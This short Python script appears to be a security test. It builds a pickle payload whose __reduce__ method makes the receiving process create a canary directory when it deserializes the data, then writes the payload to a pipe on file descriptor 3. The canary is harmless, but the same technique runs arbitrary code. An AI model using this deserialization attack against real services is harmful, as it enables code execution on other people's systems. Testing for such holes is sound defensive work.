"""The same, written straight to the pipe."""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return (os.mkdir, ("/tmp/ra3-attack-canary",))


data = pickle.dumps(Bomb())
os.write(3, struct.pack("<Ic", len(data), b"v") + data)
os._exit(0)
